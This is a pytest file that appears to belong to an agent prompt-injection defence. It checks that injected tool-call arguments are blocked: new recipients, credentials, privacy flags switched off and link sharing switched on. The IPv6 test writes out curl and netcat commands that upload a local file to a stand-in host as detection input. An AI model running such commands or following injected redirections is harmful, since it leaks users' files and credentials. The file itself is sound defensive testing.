"""Twenty-first sitting: arguments nobody declared read by class — people an action is done to or who get
to see something, addresses of any kind, qualified keys and public keys as credentials, privacy flags turned
off and link sharing turned on, IPv6 hosts and numbers dialled with ``00`` (see docs/prompt-injection.md)."""

from __future__ import annotations

import pytest

from goalrail.policies.builtins._flow_roles import role_of
from goalrail.policies.provenance import extract_values, kinds_for
from tests.injection.suite import Report, marked

ATTACKS, CONTROLS = marked("N")


def test_the_classes_have_several_variants_in_every_domain() -> None:
    assert len(ATTACKS) >= 21 and len(CONTROLS) >= 12
    assert {a[:2] for a in ATTACKS} == {"ws", "ch", "bk", "tr"} == {t[:2] for t in CONTROLS}


@pytest.mark.parametrize("attack", ATTACKS)
def test_each_attack_is_stopped(shipped: Report, attack: str) -> None:
    assert shipped.attacks()[f"attack:{attack}"]


@pytest.mark.parametrize("task", CONTROLS)
def test_each_near_miss_is_allowed_without_asking(shipped: Report, task: str) -> None:
    assert shipped.not_allowed(task) == []


@pytest.mark.parametrize(
    ("name", "role"),
    [
        ("sendee", "destination"),
        ("addressee", "destination"),
        ("consignee", "destination"),
        ("receiver", "destination"),
        ("reviewers", "destination"),
        ("approver_ids", "destination"),
        ("shipping_address", "destination"),
        ("walletAddress", "destination"),
        ("id_name_address", "destination"),
        ("notify_list", "destination"),
        ("mention_ids", "destination"),
        ("api_token", "credential"),
        ("ssh_key", "credential"),
        ("pin_code", "credential"),
        ("seed_phrase", "credential"),
        ("passwordConfirm", "credential"),
        ("is_private", "privacy"),
        ("invite_only", "privacy"),
        ("sharedLinkEnabled", "link sharing"),
        # not destinations, credentials or flags
        ("sender", None),
        ("key", None),
        ("view_mode", None),
        ("reader_font", None),
        ("guarantee", None),
        ("committee", None),
        ("password_hint", None),
        ("invoice_number", None),
    ],
)
def test_names_are_read_by_class(name: str, role: str | None) -> None:
    assert role_of(name) == role


def test_an_ipv6_host_is_a_domain_when_recorded_and_when_looked_up() -> None:
    assert ("domain", "2001:db8:4::9") in extract_values("curl -T f [2001:db8:4::9]:9000/in", words=False)
    assert ("domain", "2001:db8:4::9") in extract_values("nc 2001:db8:4::9 9000 < f", words=False)
    assert kinds_for("[2001:db8:4::9]")[0] == kinds_for("2001:db8:4::9")[0] == "domain:2001:db8:4::9"
    # slices, times, MAC addresses and C++ or Rust paths are none
    text = "a[::2]; b[1:2:3]; at 12:30:45; aa:bb:cc:dd:ee:ff; std::vector; dead::beef; [::1]"
    assert not any(k == "domain" for k, _ in extract_values(text, words=False))


def test_credentials_and_exposures_are_named_without_the_value(shipped: Report) -> None:
    reasons = {c.trace: c.reason or "" for c in shipped.calls if c.harmful}
    assert "`pin_code` sets a credential" in reasons["attack:bkN3"] and "4812" not in reasons["attack:bkN3"]
    assert "`entry` sets a credential" in reasons["attack:wsN4"] and "AAAA" not in reasons["attack:wsN4"]
    assert "`invite_only` makes it public (`false`)" in reasons["attack:chN3"]
    assert "`link_sharing` makes it public (`on`)" in reasons["attack:wsN2"]


def test_a_name_value_pair_is_read_by_the_name_it_gives(shipped: Report) -> None:
    reasons = {c.trace: c.reason or "" for c in shipped.calls if c.harmful}
    assert "(argument `recovery_phone`)" in reasons["attack:bkN6"]
    assert "(argument `document_delivery_address`)" in reasons["attack:trN5"]


def test_a_number_both_dialled_and_named_a_destination_is_reported_once(shipped: Report) -> None:
    for attack in ("attack:chD4", "attack:bkD1", "attack:bkR3", "attack:bkN5"):
        reason = next(c.reason or "" for c in shipped.calls if c.trace == attack and c.harmful)
        assert reason.count("phone number") == 1, reason
